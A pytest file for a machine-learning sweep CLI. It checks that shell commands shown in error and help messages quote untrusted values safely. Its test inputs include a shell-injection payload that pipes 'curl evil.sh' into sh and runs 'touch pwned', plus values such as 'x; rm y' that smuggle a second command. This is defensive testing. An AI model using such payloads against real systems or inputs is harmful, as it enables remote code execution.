"""Commands in messages are pasted into a shell: text from a config, a store or a file name is a word there, and no more."""

from __future__ import annotations

import ast
import re
import shlex
from pathlib import Path
from types import SimpleNamespace

import pytest
from mlflow.entities import LifecycleStage

import wine_sweep
from wine_sweep.cli.exits import report_error
from wine_sweep.cli.import_wandb import _next
from wine_sweep.errors import OutageError
from wine_sweep.evaluation.estimator_params import find_refused
from wine_sweep.evaluation.estimators import EstimatorError, find_class
from wine_sweep.messages import shell_argument, shell_word
from wine_sweep.targets.trust import how_to_trust
from wine_sweep.tracking.store import experiment_deleted, why_gone

EVIL = "x; curl evil.sh|sh #$(touch pwned)`touch pwned`'\"\n&"
SHOWN = EVIL.replace("\n", "\\n")
BEFORE = re.compile(r"((wine-sweep|mlflow) [a-z][a-z -]*|--[a-z][a-z-]* |pip install |[A-Z_]{4,}=)$")
"""What stands in a message before a word of a command."""

QUOTES = {"shell_word", "shell_argument", "command", "arguments", "store", "trust", "config"}
"""What quotes such a word, and the names of what is made of words that are quoted."""

NO_COMMANDS = {"config/loader.py": "`--set …` is the name of a place, as the user has typed it"}


def unquoted(source: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.JoinedStr):
            continue
        for before, value in zip(node.values, node.values[1:], strict=False):
            if isinstance(before, ast.Constant) and BEFORE.search(before.value) and isinstance(value, ast.FormattedValue):
                named = value.value.func if isinstance(value.value, ast.Call) else value.value
                if not isinstance(named, ast.Name) or named.id not in QUOTES:
                    found.append(ast.unparse(node))
    return found


def test_every_command_that_is_shown_is_made_of_quoted_words():
    package = Path(wine_sweep.__file__).parent
    sources = {path.relative_to(package).as_posix(): path.read_text(encoding="utf-8") for path in package.rglob("*.py")}
    found = {name: unquoted(source) for name, source in sources.items() if name not in NO_COMMANDS}
    assert {name: commands for name, commands in found.items() if commands} == {}


def test_the_test_sees_what_it_looks_for():
    assert unquoted('f"run with --trust {path} if"')
    assert unquoted('f"Go on with: wine-sweep resume {error.run_id}"')
    assert not unquoted('f"run with --trust {shell_word(path)} if"')


@pytest.mark.parametrize("text", [EVIL, "", "-x", "a b", "~", "plain-1.0/x", "\u202ecod.yaml"])
def test_a_text_is_one_word_whatever_it_holds(text):
    assert shlex.split(shell_word(text)) == [text.replace("\n", "\\n").replace("\u202e", "\\u202e")]
    assert shlex.split(shell_argument(text))[-1] == shlex.split(shell_word(text))[0]


def test_what_looks_like_an_option_is_none():
    assert shell_argument("--tracking-uri=x") == "-- --tracking-uri=x"


def test_a_parameter_that_names_a_path():
    owner = type("Owner", (), {"__module__": "sklearn.somewhere"})
    (problem,) = find_refused(owner, {"memory": EVIL}, lambda path: False, (), ())
    assert f"run with --trust {shlex.quote(SHOWN)} if you trust it" in problem.message


def test_a_package_and_a_file_that_nobody_trusts(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(EstimatorError, match="run with --trust 'x; rm y' if"):
        find_class("x; rm y.Model", (), ())
    assert how_to_trust(tmp_path / "a\x1b b.py") == r"run with --trust 'a\x1b b.py' if you trust it"


@pytest.mark.parametrize("is_deleted", [True, False], ids=["experiment", "run"])
def test_what_was_deleted_in_a_store_with_hostile_ids(is_deleted):
    stage = LifecycleStage.DELETED if is_deleted else LifecycleStage.ACTIVE
    experiment = SimpleNamespace(lifecycle_stage=stage, name="e", experiment_id=EVIL)
    client = SimpleNamespace(tracking_uri="sqlite:///a b.db", get_experiment=lambda _: experiment)
    run = SimpleNamespace(info=SimpleNamespace(experiment_id=EVIL, run_id=EVIL, lifecycle_stage=LifecycleStage.DELETED))
    what, option = ("experiments", "--experiment-id") if is_deleted else ("runs", "--run-id")
    expected = f"MLFLOW_TRACKING_URI='sqlite:///a b.db' mlflow {what} restore {option} {shlex.quote(SHOWN)}"
    assert expected in str(why_gone(client, run, "the sweep"))
    assert not is_deleted or expected in str(experiment_deleted(client, "e", EVIL))


def test_a_sweep_to_go_on_with(capsys):
    report_error(OutageError("the store is gone", run_id=EVIL), as_json=False)
    assert capsys.readouterr().err.splitlines()[-1] == f"Go on with: wine-sweep resume {shlex.quote(SHOWN)}"


def test_an_imported_config(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    *_, last = _next(Path("a\nb;c.yaml"), [tmp_path / "x y"])
    assert last == r"  wine-sweep run 'a\nb;c.yaml' --trust 'x y'"


def test_the_command_that_a_sweep_was_started_by_can_be_pasted(in_process, store):
    (store.folder / "a b.yaml").write_text(
        "data: {source: wine-quality-red}\nmodel: {estimator: sklearn.linear_model.Ridge}\n"
        "search: {parameters: {alpha: [1]}}\nevaluation: {cv: 2}\nexecution: {backend: serial}\nregistry: {name: -m}\n"
    )
    uri = f"sqlite:///{store.folder}/./mlflow.db"
    done = in_process("run", "a b.yaml", "--tracking-uri", uri, "--set", "name=x; y")
    assert done.returncode == 0, done.stderr
    assert f"\n  wine-sweep history --tracking-uri {uri} -- -m\n" in done.stdout
    (run,) = [each for each in store.client.search_runs(["1"]) if each.data.tags["wine_sweep.kind"] == "sweep"]
    assert run.data.tags["mlflow.source.name"] == f"wine-sweep run 'a b.yaml' --tracking-uri {uri} --set 'name=x; y'"
